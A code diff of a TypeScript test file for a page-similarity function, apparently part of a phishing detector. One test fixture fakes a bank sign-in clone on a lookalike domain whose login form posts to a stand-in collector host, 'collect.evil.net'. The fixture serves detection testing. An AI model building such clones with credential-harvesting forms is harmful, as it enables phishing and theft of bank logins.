@@ -1,21 +1,25 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import { similarityOf } from "../../../../lib/observe/web/similarity.ts";
+import { Page } from "../../../../lib/page/page.ts";
 
 const original = {
   url: "https://kestrelbank.com/",
-  text: `<!doctype html><html><head><title>Kestrel Bank - Sign in</title><link rel=stylesheet href=/a.css>
+  html: new Page(
+    `<!doctype html><html><head><title>Kestrel Bank - Sign in</title><link rel=stylesheet href=/a.css>
 <script src=https://cdn.kestrelbank.com/a.js></script></head><body><header><nav><ul><li><a href=/p>Personal</a>
 <li><a href=/b>Business</a></ul></nav></header><main><h1>Welcome to online banking</h1><form action=/login method=post>
 <label>Customer number<input name=c></label><label>Password<input type=password name=p></label><button>Sign in
 securely</button></form><p>We never ask for your password by telephone or by mail.</p></main></body></html>`,
+  ),
 };
 const other = {
   url: "https://bakery.example.net/",
-  text:
+  html: new Page(
     `<html><head><title>Bread</title></head><body><div><div><table><tr><td>Rye<td>2.50<tr><td>Spelt<td>3.10</table>
 <img src=/bread.jpg><img src=/rolls.jpg></div><section><h3>Opening hours</h3><dl><dt>Monday<dd>7 to 18<dt>Sunday
 <dd>closed</dl></section><footer><em>Baked with love since 1931</em></footer></div></body></html>`,
+  ),
 };
 
 test("the original's own page is all alike; a stranger's is not", () => {
@@ -26,16 +30,17 @@ test("the original's own page is all alike; a stranger's is not", () => {
 });
 
 test("a copy that loads from the original and sends elsewhere", () => {
-  const text = original.text.replace("href=/a.css", "href=https://kestrelbank.com/a.css")
+  const text = original.html.text.replace("href=/a.css", "href=https://kestrelbank.com/a.css")
     .replace("action=/login", "action=https://collect.evil.net/x").replace("We never ask", "Please tell us");
-  const found = similarityOf({ url: "https://kestre1bank.com/", text }, original)!;
+  const found = similarityOf({ url: "https://kestre1bank.com/", html: new Page(text) }, original)!;
   expect(found.score).toBeGreaterThan(0.75);
   expect(found).toMatchObject({ resources: 1 });
 });
 
 test("an original that says nothing is like nothing", () => {
-  expect(similarityOf(original, { url: "https://a.com/", text: "<h1>403 Forbidden</h1>" })).toBeNull();
-  expect(similarityOf({ url: "https://a.com/", text: "" }, original)!.score).toBeLessThan(0.1);
+  expect(similarityOf(original, { url: "https://a.com/", html: new Page("<h1>403 Forbidden</h1>") }))
+    .toBeNull();
+  expect(similarityOf({ url: "https://a.com/", html: new Page("") }, original)!.score).toBeLessThan(0.1);
 });
 
 test("any text: figures from 0 to 1, and the same for the same", () => {
@@ -58,7 +63,8 @@ test("any text: figures from 0 to 1, and the same for the same", () => {
     fc.array(piece, { maxLength: 200 }).map((list) => list.join("")),
   );
   fc.assert(fc.property(page, fc.oneof(fc.webUrl(), fc.string()), (text, url) => {
-    for (const found of [similarityOf({ url, text }, original), similarityOf(original, { url, text })]) {
+    const html = new Page(text);
+    for (const found of [similarityOf({ url, html }, original), similarityOf(original, { url, html })]) {
       if (found === null) continue;
       for (const value of [found.score, found.dom, found.text, found.title, found.resources]) {
         if (value === null) continue;
@@ -66,7 +72,7 @@ test("any text: figures from 0 to 1, and the same for the same", () => {
         expect(value).toBeLessThanOrEqual(1);
       }
     }
-    const same = similarityOf({ url, text }, { url, text });
+    const same = similarityOf({ url, html }, { url, html });
     if (same !== null) expect(same.dom ?? 1).toBe(1);
   }));
 });
@@ -84,8 +90,8 @@ test.each([
 ])(
   "a megabyte of %s ends", // within the runner's limit: quadratic work would take minutes
   (unit) => {
-    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
-    const same = similarityOf({ url: "https://a.com/", text }, { url: "https://b.com/", text });
+    const html = new Page(unit.repeat(Math.ceil(1_000_000 / unit.length)));
+    const same = similarityOf({ url: "https://a.com/", html }, { url: "https://b.com/", html });
     expect(same).not.toBeUndefined();
   },
 );
